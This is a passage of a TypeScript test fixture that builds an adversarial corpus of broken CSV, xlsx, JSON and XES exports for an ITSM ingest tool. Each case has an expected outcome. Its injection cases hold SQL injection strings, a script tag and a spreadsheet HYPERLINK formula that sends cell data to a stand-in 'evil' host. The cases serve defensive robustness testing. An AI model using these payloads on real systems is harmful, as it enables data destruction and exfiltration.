/**
 * The adversarial ingest corpus (issue 12): broken and tricky exports, each with the outcome ingest must
 * give. Files are generated at test time (`writeCorpus(dir)`) rather than committed: the 1 MB field and the
 * 10,000-column header would bloat the repository, and the bytes are easier to review as code.
 *
 * An outcome is either `loaded` (rows read/loaded/rejected and the exact rejects: line and reason) or
 * `refused` (exit 2 with one line on stderr matching `message`, which names the file and the problem).
 * test/robustness/corpus.test.ts drives refused cases through the real CLI and loaded ones through the
 * library. To keep the files: `ITSM_LENS_CORPUS_OUT=dir npx vitest run test/robustness/corpus.test.ts`.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync, inflateRawSync as inflateRaw } from 'node:zlib';
import { workbook, zip } from '../convert/xlsx-builder.js';

export type Category =
  | 'quoting and delimiters'
  | 'encodings'
  | 'size'
  | 'empty and headers'
  | 'rows'
  | 'dates'
  | 'ids and injection'
  | 'compression'
  | 'xlsx'
  | 'json'
  | 'xes'
  | 'paths';

export interface Loaded {
  read: number;
  loaded: number;
  rejected: number;
  /** every reject, in line order: [line, reason pattern] */
  rejects?: [number, RegExp][];
  /** SQL (over the case's own database) and the rows it must return */
  check?: { sql: string; rows: Record<string, unknown>[] };
  encoding?: string;
  empty?: number;
}

export interface CorpusCase {
  id: string;
  category: Category;
  /** file name inside the case's folder */
  file: string;
  bytes: () => Buffer;
  /** extra ingest options (CLI form) */
  args?: string[];
  expect: { loaded: Loaded } | { refused: RegExp };
  /** hostile shapes (issue 25): the CLI run must stay within this wall time and peak RSS */
  budget?: { seconds: number; mb: number };
}

// ServiceNow incident export: the smallest header detection is sure of.
const H = 'number,short_description,opened_at,resolved_at,caller_id,priority';
const row = (n: number, title = `Case ${n}`, opened = `2024-03-${String(10 + n).padStart(2, '0')} 08:00:00`, resolved = '') =>
  `INC${String(n).padStart(7, '0')},${title},${opened},${resolved},Caller ${n},3 - Moderate`;
const csv = (...lines: string[]) => Buffer.from(lines.join('\n') + '\n', 'utf8');
const text = (s: string) => Buffer.from(s, 'utf8');
const good3 = [row(1), row(2), row(3)];
const ok = (read: number, extra: Partial<Loaded> = {}): { loaded: Loaded } => ({
  loaded: { read, loaded: read - (extra.rejected ?? 0), rejected: 0, ...extra },
});
const titles = (...t: string[]) => ({ sql: 'SELECT title FROM ticket ORDER BY source_row', rows: t.map((title) => ({ title })) });
const opened = (...o: string[]) => ({
  sql: `SELECT strftime(opened_at, '%Y-%m-%d %H:%M:%S') AS o FROM ticket ORDER BY source_row`,
  rows: o.map((x) => ({ o: x })),
});

function utf16(s: string, be: boolean, bom = true): Buffer {
  const le = Buffer.from(s, 'utf16le');
  if (be) le.swap16();
  return bom ? Buffer.concat([Buffer.from(be ? [0xfe, 0xff] : [0xff, 0xfe]), le]) : le;
}

function cp1252(s: string): Buffer {
  // Windows-1252: latin-1 plus € “ ” ‘ ’ – — in 0x80–0x9F.
  const extra: Record<string, number> = { '€': 0x80, '‚': 0x82, '„': 0x84, '…': 0x85, '‘': 0x91, '’': 0x92, '“': 0x93, '”': 0x94, '–': 0x96, '—': 0x97, 'Œ': 0x8c, 'œ': 0x9c };
  return Buffer.from([...s].map((ch) => extra[ch] ?? ch.charCodeAt(0)));
}

const sheetXml = (rows: string, tail = '') =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData>${tail}</worksheet>`;
const cell = (ref: string, v: string) => `<c r="${ref}" t="inlineStr"><is><t>${v}</t></is></c>`;
const xrow = (r: number, cells: string[]) =>
  `<row r="${r}">${cells.map((v, i) => (v === '' ? '' : cell(String.fromCharCode(65 + i) + r, v))).join('')}</row>`;
const XL_HEADER = ['number', 'short_description', 'opened_at', 'caller_id'];
const xlData = (first: number, n: number, startRow = 2) =>
  Array.from({ length: n }, (_, i) => xrow(startRow + i, [`INC${first + i}`, `Sheet row ${i + 1}`, '2024-03-13 08:00:00', 'C'])).join('');

/** A workbook whose first sheet carries a merged title row above the header (report-style exports). */
function mergedWorkbook(): Buffer {
  const base = workbook({ sheets: [{ name: 'Page 1', rows: '' }, { name: 'Other', rows: xrow(1, ['a', 'b']) }] });
  // Rebuild with the first sheet replaced: the builder has no <mergeCells>, so the parts are re-zipped.
  const parts = unzipStored(base).map((p) =>
    p.name === 'xl/worksheets/sheet1.xml'
      ? {
          name: p.name,
          data: sheetXml(
            xrow(1, ['Incident report March 2024']) + xrow(2, XL_HEADER) + xrow(3, ['INC1', 'Merged category', '2024-03-13 08:00:00', 'C']) +
              xrow(4, ['INC2', '', '2024-03-14 08:00:00', '']),
            '<mergeCells count="2"><mergeCell ref="A1:D1"/><mergeCell ref="B3:B4"/></mergeCells>',
          ),
        }
      : p,
  );
  return zip(parts);
}

/** Reads back the parts of a zip written by `zip()` (deflated), to swap one part. */
function unzipStored(buf: Buffer): { name: string; data: Buffer }[] {
  const out: { name: string; data: Buffer }[] = [];
  let p = 0;
  while (buf.readUInt32LE(p) === 0x04034b50) {
    const method = buf.readUInt16LE(p + 8);
    const size = buf.readUInt32LE(p + 18);
    const nameLen = buf.readUInt16LE(p + 26);
    const extraLen = buf.readUInt16LE(p + 28);
    const name = buf.subarray(p + 30, p + 30 + nameLen).toString('utf8');
    const body = buf.subarray(p + 30 + nameLen + extraLen, p + 30 + nameLen + extraLen + size);
    out.push({ name, data: method === 8 ? inflateRaw(body) : Buffer.from(body) });
    p += 30 + nameLen + extraLen + size;
  }
  return out;
}
const XES_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<log xes.version="1.0" xmlns="http://www.xes-standard.org/">';
const xesEvent = (name: string, ts?: string) =>
  `<event><string key="concept:name" value="${name}"/>${ts ? `<date key="time:timestamp" value="${ts}"/>` : ''}<string key="org:resource" value="r"/></event>`;
const xesTrace = (id: string, events: string) => `<trace><string key="concept:name" value="${id}"/>${events}</trace>`;

export const CORPUS: CorpusCase[] = [
  // ── quoting and delimiters ────────────────────────────────────────────────────────────────────────────
  { id: 'truncated-mid-row', category: 'quoting and delimiters', file: 'incident.csv', bytes: () => text([H, row(1), row(2), 'INC0000003,Printer'].join('\n')),
    expect: { loaded: { read: 3, loaded: 2, rejected: 1, rejects: [[4, /missing columns|too few/i]] } } },
  { id: 'truncated-mid-quote', category: 'quoting and delimiters', file: 'incident.csv', bytes: () => text([H, row(1), row(2), 'INC0000003,"Printer is on fi'].join('\n')),
    expect: { loaded: { read: 3, loaded: 2, rejected: 1, rejects: [[4, /unterminated quote/i]] } } },
  { id: 'unbalanced-quote-mid-file', category: 'quoting and delimiters', file: 'incident.csv',
    bytes: () => csv(H, row(1), row(2, '"Printer jams'), row(3), row(4)),
    // RFC 4180: the open quote makes the rest of the file one record; it is rejected, naming the lines it swallowed
    expect: { loaded: { read: 2, loaded: 1, rejected: 1, rejects: [[3, /unterminated quote.*runs from line 3 to line 5: a quote opened in it is never closed/i]] } } },
  { id: 'stray-quote-inside-field', category: 'quoting and delimiters', file: 'incident.csv', bytes: () => csv(H, row(1), row(2, 'Printer "HP 4" jams'), row(3)),
    expect: ok(3, { check: titles('Case 1', 'Printer "HP 4" jams', 'Case 3') }) },
  { id: 'quoted-delimiters-and-newlines', category: 'quoting and delimiters', file: 'incident.csv',
    bytes: () => csv(H, row(1, '"Printer, 2nd floor"'), row(2, '"line one\nline two"'), row(3, '"say ""hi"""')),
    expect: ok(3, { check: { sql: 'SELECT source_row, title FROM ticket ORDER BY 1', rows: [{ source_row: 2, title: 'Printer, 2nd floor' }, { source_row: 3, title: 'line one\nline two' }, { source_row: 5, title: 'say "hi"' }] } }) },
  { id: 'multiline-record-then-ragged-row', category: 'quoting and delimiters', file: 'incident.csv',
    bytes: () => csv(H, row(1, '"first\nsecond"'), 'INC0000002,short', '', row(3)),
    expect: { loaded: { read: 3, loaded: 2, rejected: 1, rejects: [[4, /missing columns/]], check: { sql: 'SELECT source_row FROM ticket ORDER BY 1', rows: [{ source_row: 2 }, { source_row: 6 }] } } } },
  { id: 'mixed-delimiters', category: 'quoting and delimiters', file: 'incident.csv', bytes: () => csv(H, row(1), row(2).replace(/,/g, ';'), row(3)),
    expect: { loaded: { read: 3, loaded: 2, rejected: 1, rejects: [[3, /missing columns|too few/i]] } } },
  { id: 'excel-sep-line', category: 'quoting and delimiters', file: 'incident.csv', bytes: () => csv('sep=;', ...[H, ...good3].map((l) => l.replace(/,/g, ';'))),
    expect: ok(3, { check: { sql: 'SELECT min(source_row) AS first FROM ticket', rows: [{ first: 3 }] } }) },
  { id: 'excel-sep-line-quoted-pipe', category: 'quoting and delimiters', file: 'incident.csv', bytes: () => csv('"sep=|"', ...[H, ...good3].map((l) => l.replace(/,/g, '|'))),
    expect: ok(3) },
  { id: 'semicolon-decimal-comma', category: 'quoting and delimiters', file: 'incident.csv',
    bytes: () => csv('number;short_description;opened_at;caller_id;u_cost', 'INC1;Printer;13.03.2024 08:00;A;1,5', 'INC2;Mail;14.03.2024 09:00;B;2,25'),
    expect: ok(2, { check: { sql: `SELECT extra->>'u_cost' AS c FROM ticket ORDER BY 1`, rows: [{ c: '1,5' }, { c: '2,25' }] } }) },
  { id: 'tab-separated-tsv', category: 'quoting and delimiters', file: 'incident.tsv', bytes: () => csv(...[H, ...good3].map((l) => l.replace(/,/g, '\t'))), expect: ok(3) },
  { id: 'crlf-line-endings', category: 'quoting and delimiters', file: 'incident.csv', bytes: () => text([H, ...good3].join('\r\n') + '\r\n'), expect: ok(3, { check: titles('Case 1', 'Case 2', 'Case 3') }) },
  { id: 'cr-only-line-endings', category: 'quoting and delimiters', file: 'incident.csv', bytes: () => text([H, ...good3].join('\r') + '\r'), expect: ok(3) },
  { id: 'blank-lines-between-rows', category: 'quoting and delimiters', file: 'incident.csv', bytes: () => csv(H, row(1), '', row(2), '', '', row(3)),
    expect: ok(3, { check: { sql: 'SELECT source_row FROM ticket ORDER BY 1', rows: [{ source_row: 2 }, { source_row: 4 }, { source_row: 7 }] } }) },
  { id: 'trailing-delimiter-every-line', category: 'quoting and delimiters', file: 'incident.csv', bytes: () => csv(H + ',', ...good3.map((l) => l + ',')), expect: ok(3) },
  { id: 'padded-header-and-values', category: 'quoting and delimiters', file: 'incident.csv',
    bytes: () => csv(' number , short_description ,opened_at, caller_id ', ' INC1 ,  Printer  , 2024-03-13 08:00:00 , A '),
    expect: ok(1, { check: { sql: 'SELECT source_id, title FROM ticket', rows: [{ source_id: 'INC1', title: 'Printer' }] } }) },

  // ── encodings ─────────────────────────────────────────────────────────────────────────────────────────
  { id: 'cp1252-accents-and-euro', category: 'encodings', file: 'incident.csv', bytes: () => cp1252([H, row(1, '“Café” coûte 5 € – naïve'), row(2, 'Œuvre déjà vu')].join('\r\n') + '\r\n'),
    expect: ok(2, { encoding: 'windows-1252', check: titles('“Café” coûte 5 € – naïve', 'Œuvre déjà vu') }) },
  { id: 'cp1252-after-the-first-megabyte', category: 'encodings', file: 'incident.csv',
    bytes: () => Buffer.concat([text([H, ...Array.from({ length: 16_000 }, (_, i) => row(i + 1, 'Plain ASCII printer text', '2024-03-13 08:00:00'))].join('\n') + '\n'), cp1252(row(16_001, 'Café € 5', '2024-03-13 08:00:00') + '\n')]),
    expect: ok(16_001, { encoding: 'windows-1252', check: { sql: `SELECT title FROM ticket WHERE source_row = 16002`, rows: [{ title: 'Café € 5' }] } }) },
  { id: 'latin1-accents', category: 'encodings', file: 'incident.csv', bytes: () => Buffer.from([H, row(1, 'Drucker in Zürich'), row(2, 'Señor Müller')].join('\n') + '\n', 'latin1'),
    expect: ok(2, { encoding: 'latin-1', check: titles('Drucker in Zürich', 'Señor Müller') }) },
  { id: 'utf8-bom', category: 'encodings', file: 'incident.csv', bytes: () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), csv(H, row(1, 'Ünïcödé ✓'))]),
    expect: ok(1, { encoding: 'utf-8 (BOM)', check: titles('Ünïcödé ✓') }) },
  { id: 'utf16le-bom', category: 'encodings', file: 'incident.csv', bytes: () => utf16([H, row(1, 'Zürich ✓'), row(2)].join('\r\n') + '\r\n', false),
    expect: ok(2, { encoding: 'utf-16le (BOM)', check: titles('Zürich ✓', 'Case 2') }) },
  { id: 'utf16be-bom', category: 'encodings', file: 'incident.csv', bytes: () => utf16([H, row(1, 'Zürich ✓'), row(2)].join('\r\n') + '\r\n', true),
    expect: ok(2, { encoding: 'utf-16be (BOM)', check: titles('Zürich ✓', 'Case 2') }) },
  { id: 'utf16le-no-bom', category: 'encodings', file: 'incident.csv', bytes: () => utf16([H, row(1), row(2)].join('\r\n') + '\r\n', false, false),
    expect: ok(2, { encoding: 'utf-16le' }) },
  { id: 'invalid-utf8-byte-in-utf8-file', category: 'encodings', file: 'incident.csv',
    bytes: () => Buffer.concat([text([H, row(1, 'Zürich'), 'INC0000002,Gen'].join('\n')), Buffer.from([0xff, 0xfe]), text('ève,2024-03-12 08:00:00,,Caller 2,3 - Moderate\n' + row(3, 'Straße') + '\n')]),
    expect: { loaded: { read: 3, loaded: 2, rejected: 1, rejects: [[3, /invalid utf-?8|unicode/i]], encoding: 'utf-8', check: titles('Zürich', 'Straße') } } },
  { id: 'nul-bytes-in-field', category: 'encodings', file: 'incident.csv', bytes: () => csv(H, row(1, 'Print\u0000er'), row(2)),
    expect: ok(2, { check: titles('Printer', 'Case 2') }) },
  { id: 'binary-garbage', category: 'encodings', file: 'incident.csv', bytes: () => Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)),
    expect: { refused: /incident\.csv: .*(not a text|binary|no header|header not recognised|column)/i } },
  { id: 'png-renamed-csv', category: 'encodings', file: 'export.csv', bytes: () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(64, 1)]),
    expect: { refused: /export\.csv: .*(not a text|binary)/i } },

  // ── size ──────────────────────────────────────────────────────────────────────────────────────────────
  { id: 'one-megabyte-field', category: 'size', file: 'incident.csv', bytes: () => csv(H, row(1, 'x'.repeat(1 << 20)), row(2)),
    expect: ok(2, { check: { sql: 'SELECT length(title) AS n FROM ticket ORDER BY source_row', rows: [{ n: 1 << 20 }, { n: 6 }] } }) },
  { id: 'ten-thousand-columns', category: 'size', file: 'incident.csv',
    bytes: () => csv(H + Array.from({ length: 9994 }, (_, i) => `,u_col${i}`).join(''), row(1) + Array.from({ length: 9994 }, (_, i) => (i % 1000 === 0 ? `,v${i}` : ',')).join('')),
    expect: ok(1, { check: { sql: `SELECT json_keys(extra)::VARCHAR AS k, extra->>'u_col9000' AS v FROM ticket`, rows: [{ k: '[u_col0, u_col1000, u_col2000, u_col3000, u_col4000, u_col5000, u_col6000, u_col7000, u_col8000, u_col9000]', v: 'v9000' }] } }) },

  // ── empty files and headers ───────────────────────────────────────────────────────────────────────────
  { id: 'empty-file', category: 'empty and headers', file: 'incident.csv', bytes: () => Buffer.alloc(0), expect: { refused: /incident\.csv: the file is empty/ } },
  { id: 'bom-only', category: 'empty and headers', file: 'incident.csv', bytes: () => Buffer.from([0xef, 0xbb, 0xbf]), expect: { refused: /incident\.csv: (the file is empty|no header row)/ } },
  { id: 'blank-lines-only', category: 'empty and headers', file: 'incident.csv', bytes: () => text('\n\n  \n'), expect: { refused: /incident\.csv: no header row/ } },
  { id: 'header-only', category: 'empty and headers', file: 'incident.csv', bytes: () => csv(H), expect: ok(0) },
  { id: 'header-only-no-newline', category: 'empty and headers', file: 'incident.csv', bytes: () => text(H), expect: ok(0) },
  { id: 'single-column', category: 'empty and headers', file: 'incident.csv', bytes: () => csv('number', 'INC1'), expect: { refused: /incident\.csv: found 1 column in the header row/ } },
  { id: 'unknown-header', category: 'empty and headers', file: 'fruit.csv', bytes: () => csv('fruit,colour', 'apple,red'), expect: { refused: /fruit\.csv: header not recognised.*--mapping/ } },
  { id: 'duplicate-headers', category: 'empty and headers', file: 'incident.csv', bytes: () => csv(H + ',caller_id,caller_id', row(1) + ',Second,Third'),
    expect: ok(1, { check: { sql: `SELECT requester, extra->>'caller_id (2)' AS c2, extra->>'caller_id (3)' AS c3 FROM ticket`, rows: [{ requester: 'Caller 1', c2: 'Second', c3: 'Third' }] } }) },
  { id: 'near-duplicate-headers', category: 'empty and headers', file: 'incident.csv',
    bytes: () => csv('number,Number ,NUMBER,short_description,Short description,opened_at', 'INC1,X1,Y1,first,second,2024-03-13 08:00:00'),
    expect: ok(1, { check: { sql: `SELECT source_id, title, extra->>'Number (2)' AS n2, extra->>'Short description' AS s2 FROM ticket`, rows: [{ source_id: 'INC1', title: 'first', n2: 'X1', s2: 'second' }] } }) },
  { id: 'empty-header-cells', category: 'empty and headers', file: 'incident.csv', bytes: () => csv(H + ',,', row(1) + ',a,b'),
    expect: ok(1, { check: { sql: `SELECT extra->>'column 7' AS a, extra->>'column 8' AS b FROM ticket`, rows: [{ a: 'a', b: 'b' }] } }) },
  { id: 'header-cells-with-quotes-and-delimiters', category: 'empty and headers', file: 'incident.csv', bytes: () => csv(H + ',"u_note, ""quoted"""', row(1) + ',n1'),
    expect: ok(1, { check: { sql: `SELECT extra->>'u_note, "quoted"' AS n FROM ticket`, rows: [{ n: 'n1' }] } }) },

  // ── rows ──────────────────────────────────────────────────────────────────────────────────────────────
  { id: 'ragged-rows', category: 'rows', file: 'incident.csv', bytes: () => csv(H, row(1), row(2) + ',extra,cells', 'INC0000003,short', row(4)),
    expect: { loaded: { read: 4, loaded: 2, rejected: 2, rejects: [[3, /too many columns/i], [4, /missing columns|too few/i]] } } },
  { id: 'empty-rows-skipped', category: 'rows', file: 'incident.csv', bytes: () => csv(H, row(1), ',,,,,', ' , , ,,,', row(2)), expect: ok(2, { empty: 2 }) },
  { id: 'missing-id', category: 'rows', file: 'incident.csv', bytes: () => csv(H, row(1), row(2).replace('INC0000002', ''), row(3)),
    expect: { loaded: { read: 3, loaded: 2, rejected: 1, rejects: [[3, /no value in the id column 'number'/]] } } },

  // ── dates ─────────────────────────────────────────────────────────────────────────────────────────────
  { id: 'five-date-formats-one-column', category: 'dates', file: 'incident.csv',
    bytes: () => csv(H, row(1, 'a', '2024-03-13 08:00:00'), row(2, 'b', '13/03/2024 08:00'), row(3, 'c', '1710316800000'), row(4, 'd', 'Mar 13, 2024 8:00 AM'), row(5, 'e', '13.03.2024 08:00')),
    expect: { refused: /incident\.csv: column 'opened_at' mixes date formats.*--date-format/ } },
  { id: 'one-odd-date-among-many', category: 'dates', file: 'incident.csv', bytes: () => csv(H, row(1), row(2), row(3, 'c', '13/03/2024'), row(4)),
    expect: { loaded: { read: 4, loaded: 3, rejected: 1, rejects: [[4, /column 'opened_at': '13\/03\/2024' is not a date/]] } } },
  { id: 'two-digit-years', category: 'dates', file: 'incident.csv', bytes: () => csv(H, row(1, 'a', '13/03/24 08:00'), row(2, 'b', '01/12/99 23:59')),
    expect: ok(2, { check: opened('2024-03-13 08:00:00', '1999-12-01 23:59:00') }) },
  { id: 'epoch-milliseconds', category: 'dates', file: 'incident.csv', bytes: () => csv(H, row(1, 'a', '1710316800000'), row(2, 'b', '1710316800123')),
    expect: ok(2, { check: opened('2024-03-13 08:00:00', '2024-03-13 08:00:00') }) },
  { id: 'epoch-seconds', category: 'dates', file: 'incident.csv', bytes: () => csv(H, row(1, 'a', '1710316800'), row(2, 'b', '1710320400.5')),
    expect: ok(2, { check: opened('2024-03-13 08:00:00', '2024-03-13 09:00:00') }) },
  { id: 'impossible-dates', category: 'dates', file: 'incident.csv',
    bytes: () => csv(H, row(1), row(2, 'b', '2024-02-30 08:00:00'), row(3, 'c', '2023-02-29 08:00:00'), row(4, 'd', '2024-03-13 25:00:00'), row(5), row(6), row(7)),
    expect: { loaded: { read: 7, loaded: 4, rejected: 3, rejects: [[3, /'2024-02-30 08:00:00' is not a date/], [4, /'2023-02-29 08:00:00' is not a date/], [5, /'2024-03-13 25:00:00' is not a date/]] } } },
  { id: 'offsets', category: 'dates', file: 'incident.csv', bytes: () => csv(H, row(1, 'a', '2024-03-13T08:00:00+01:00'), row(2, 'b', '2024-03-13T08:00:00-05:30')),
    expect: ok(2, { check: opened('2024-03-13 07:00:00', '2024-03-13 13:30:00') }) },
  { id: 'utc-z-suffix', category: 'dates', file: 'incident.csv', args: ['--timezone', 'Asia/Tokyo'], bytes: () => csv(H, row(1, 'a', '2024-03-13T08:00:00Z')),
    expect: ok(1, { check: opened('2024-03-13 08:00:00') }) },
  { id: 'zone-names', category: 'dates', file: 'incident.csv', bytes: () => csv(H, row(1, 'a', '2024-03-13 08:00:00 Europe/Amsterdam'), row(2, 'b', '2024-07-13 08:00:00 America/New_York')),
    expect: ok(2, { check: opened('2024-03-13 07:00:00', '2024-07-13 12:00:00') }) },
  { id: 'dst-gap-local-time', category: 'dates', file: 'incident.csv', args: ['--timezone', 'Europe/Amsterdam'], bytes: () => csv(H, row(1, 'a', '2024-03-31 02:30:00')),
    expect: ok(1, { check: opened('2024-03-31 01:30:00') }) },
  { id: 'negative-durations', category: 'dates', file: 'incident.csv', bytes: () => csv(H, row(1, 'a', '2024-03-13 08:00:00', '2024-03-12 08:00:00'), row(2, 'b', '2024-03-13 08:00:00', '2024-03-13 10:00:00')),
    expect: ok(2, { check: { sql: 'SELECT epoch(resolved_at - opened_at) / 3600 AS h FROM ticket ORDER BY source_row', rows: [{ h: -24 }, { h: 2 }] } }) },
  { id: 'ambiguous-day-month', category: 'dates', file: 'incident.csv', bytes: () => csv(H, row(1, 'a', '01/02/2024 08:00'), row(2, 'b', '03/04/2024 08:00')),
    expect: { refused: /incident\.csv: column 'opened_at'.*day\/month order.*--date-format dmy/ } },
  { id: 'not-a-date-column', category: 'dates', file: 'incident.csv', bytes: () => csv(H, row(1, 'a', 'yesterday'), row(2, 'b', 'soon')),
    expect: { refused: /incident\.csv: column 'opened_at' holds values like '(yesterday|soon)' that are not dates/ } },
  { id: 'bad-date-format-option', category: 'dates', file: 'incident.csv', args: ['--date-format', 'dd/mm/yyyy'], bytes: () => csv(H, row(1)),
    expect: { refused: /--date-format 'dd\/mm\/yyyy': give dmy, mdy, ymd or a strptime pattern/ } },

  // ── ids and injection ─────────────────────────────────────────────────────────────────────────────────
  { id: 'duplicate-ids-conflicting', category: 'ids and injection', file: 'incident.csv', bytes: () => csv(H, row(1, 'first version'), row(2), row(1, 'second version')),
    expect: { loaded: { read: 3, loaded: 2, rejected: 1, rejects: [[2, /duplicate id INC0000001: superseded by line 4/]], check: { sql: `SELECT title FROM ticket WHERE source_id = 'INC0000001'`, rows: [{ title: 'second version' }] } } } },
  { id: 'duplicate-ids-differing-in-whitespace', category: 'ids and injection', file: 'incident.csv', bytes: () => csv(H, row(1, 'a'), ' ' + row(1, 'b') + ' '),
    expect: { loaded: { read: 2, loaded: 1, rejected: 1, rejects: [[2, /duplicate id INC0000001/]] } } },
  { id: 'sql-in-values', category: 'ids and injection', file: 'incident.csv', bytes: () => csv(H, row(1, `'); DROP TABLE ticket; --`), `INC'2,"x"" OR 1=1 --",2024-03-13 08:00:00,,Bobby'); DROP TABLE source_file;--,3`),
    expect: ok(2, { check: { sql: `SELECT source_id, title FROM ticket ORDER BY source_row`, rows: [{ source_id: 'INC0000001', title: `'); DROP TABLE ticket; --` }, { source_id: "INC'2", title: 'x" OR 1=1 --' }] } }) },
  { id: 'sql-in-header', category: 'ids and injection', file: 'incident.csv', bytes: () => csv(H + `,"x""); DROP TABLE ticket; --",'--`, row(1) + ',a,b'),
    expect: ok(1, { check: { sql: `SELECT extra->>'x"); DROP TABLE ticket; --' AS a, extra->>'''--' AS b FROM ticket`, rows: [{ a: 'a', b: 'b' }] } }) },
  { id: 'formula-and-script-in-text', category: 'ids and injection', file: 'incident.csv', bytes: () => csv(H, row(1, '=HYPERLINK("http://evil/?x="&A1)'), row(2, '<script>alert(1)</script>')),
    expect: ok(2, { check: titles('=HYPERLINK("http://evil/?x="&A1)', '<script>alert(1)</script>') }) },

  // ── compression ───────────────────────────────────────────────────────────────────────────────────────
  { id: 'gzip', category: 'compression', file: 'incident.csv.gz', bytes: () => gzipSync(csv(H, ...good3)), expect: ok(3) },
  { id: 'truncated-gzip', category: 'compression', file: 'incident.csv.gz',
    bytes: () => { const z = gzipSync(csv(H, ...Array.from({ length: 2000 }, (_, i) => row(i + 1, `Case ${i} ${(i * 2654435761) % 1000003}`)))); return z.subarray(0, Math.floor(z.length / 2)); },
    expect: { refused: /incident\.csv\.gz: (truncated|corrupt|not a readable) gzip/i } },
  { id: 'not-gzip-with-gz-name', category: 'compression', file: 'incident.csv.gz', bytes: () => csv(H, row(1)), expect: { refused: /incident\.csv\.gz: not a readable gzip file/ } },
  { id: 'gzip-of-empty', category: 'compression', file: 'incident.csv.gz', bytes: () => gzipSync(Buffer.alloc(0)), expect: { refused: /incident\.csv\.gz: the file is empty/ } },

  // ── xlsx ──────────────────────────────────────────────────────────────────────────────────────────────
  { id: 'xlsx-corrupt', category: 'xlsx', file: 'incident.xlsx', bytes: () => Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(200, 0x41)]),
    expect: { refused: /incident\.xlsx: (cannot read as an xlsx|corrupt)/ } },
  { id: 'xlsx-truncated', category: 'xlsx', file: 'incident.xlsx', bytes: () => { const w = workbook({ sheets: [{ name: 'Page 1', rows: xrow(1, XL_HEADER) + xlData(1, 50) }] }); return w.subarray(0, Math.floor(w.length * 0.6)); },
    expect: { refused: /incident\.xlsx: (cannot read as an xlsx|corrupt or truncated)/ } },
  { id: 'xlsx-not-a-zip', category: 'xlsx', file: 'incident.xlsx', bytes: () => csv(H, row(1)), expect: { refused: /incident\.xlsx: not an xlsx workbook/ } },
  { id: 'xls-binary', category: 'xlsx', file: 'incident.xls.csv', bytes: () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(512)]),
    expect: { refused: /Excel 97-2003.*save it as \.xlsx/ } },
  { id: 'xlsx-several-sheets-first', category: 'xlsx', file: 'incident.xlsx',
    bytes: () => workbook({ sheets: [{ name: 'Page 1', rows: xrow(1, XL_HEADER) + xlData(1, 2) }, { name: 'Archive', rows: xrow(1, XL_HEADER) + xlData(100, 3) }] }),
    expect: ok(2, { check: { sql: 'SELECT source_id FROM ticket ORDER BY 1', rows: [{ source_id: 'INC1' }, { source_id: 'INC2' }] } }) },
  { id: 'xlsx-several-sheets-named', category: 'xlsx', file: 'incident.xlsx', args: ['--sheet', 'Archive'],
    bytes: () => workbook({ sheets: [{ name: 'Page 1', rows: xrow(1, XL_HEADER) + xlData(1, 2) }, { name: 'Archive', rows: xrow(1, XL_HEADER) + xlData(100, 3) }] }),
    expect: ok(3, { check: { sql: 'SELECT count(*) AS n, min(source_id) AS first FROM ticket', rows: [{ n: 3, first: 'INC100' }] } }) },
  { id: 'xlsx-unknown-sheet', category: 'xlsx', file: 'incident.xlsx', args: ['--sheet', 'Nope'],
    bytes: () => workbook({ sheets: [{ name: 'Page 1', rows: xrow(1, XL_HEADER) + xlData(1, 2) }] }), expect: { refused: /incident\.xlsx: no sheet named 'Nope'/ } },
  { id: 'xlsx-merged-cells', category: 'xlsx', file: 'incident.xlsx', bytes: mergedWorkbook,
    expect: ok(2, { check: { sql: 'SELECT source_id, title, source_row FROM ticket ORDER BY 1', rows: [{ source_id: 'INC1', title: 'Merged category', source_row: 3 }, { source_id: 'INC2', title: null, source_row: 4 }] } }) },
  { id: 'xlsx-empty-sheet', category: 'xlsx', file: 'incident.xlsx', bytes: () => workbook({ sheets: [{ name: 'Page 1', rows: '' }] }), expect: { refused: /incident\.xlsx: sheet 'Page 1' is empty/ } },

  // ── json ──────────────────────────────────────────────────────────────────────────────────────────────
  { id: 'json-truncated', category: 'json', file: 'incident.json', bytes: () => text('{"result": [{"number": "INC1", "short_description": "a", "opened_at": "2024-03-13 08:00:00"}, {"number": "INC2", "short_des'),
    expect: { refused: /incident\.json: malformed JSON/ } },
  // DuckDB's JSON reader accepts a trailing comma (as JSON5 and most exporters' readers do)
  { id: 'json-trailing-comma', category: 'json', file: 'incident.json', bytes: () => text('[{"number": "INC1", "short_description": "a", "opened_at": "2024-03-13 08:00:00",}]'),
    expect: ok(1) },
  { id: 'json-scalar', category: 'json', file: 'incident.json', bytes: () => text('42'), expect: { refused: /incident\.json: holds a single JSON/ } },
  { id: 'json-empty-array', category: 'json', file: 'incident.json', bytes: () => text('[]'), expect: { refused: /incident\.json: holds no (JSON )?records/ } },
  { id: 'ndjson-bad-line', category: 'json', file: 'incident.ndjson',
    bytes: () => text('{"number": "INC1", "short_description": "a", "opened_at": "2024-03-13 08:00:00"}\n{"number": "INC2", oops}\n'),
    expect: { refused: /incident\.ndjson: malformed JSON/ } },
  { id: 'json-nested-and-ragged', category: 'json', file: 'incident.json',
    bytes: () => text(JSON.stringify({ result: [
      { number: 'INC1', short_description: 'a', opened_at: '2024-03-13 08:00:00', caller_id: { display_value: 'Ann', link: 'x' } },
      { number: 'INC2', short_description: 'b', opened_at: '2024-03-14 08:00:00', u_tags: ['x', 'y'] },
    ] })),
    expect: ok(2, { check: { sql: 'SELECT source_id FROM ticket ORDER BY 1', rows: [{ source_id: 'INC1' }, { source_id: 'INC2' }] } }) },

  // ── xes ───────────────────────────────────────────────────────────────────────────────────────────────
  { id: 'xes-malformed', category: 'xes', file: 'log.xes', bytes: () => text(`${XES_HEAD}${xesTrace('C1', xesEvent('Open', '2024-03-01T08:00:00.000+01:00'))}<trace><event>`),
    expect: { refused: /log\.xes: malformed XES/ } },
  { id: 'xes-no-events', category: 'xes', file: 'log.xes', bytes: () => text(`${XES_HEAD}</log>`), expect: { refused: /log\.xes: the XES log holds no events/ } },
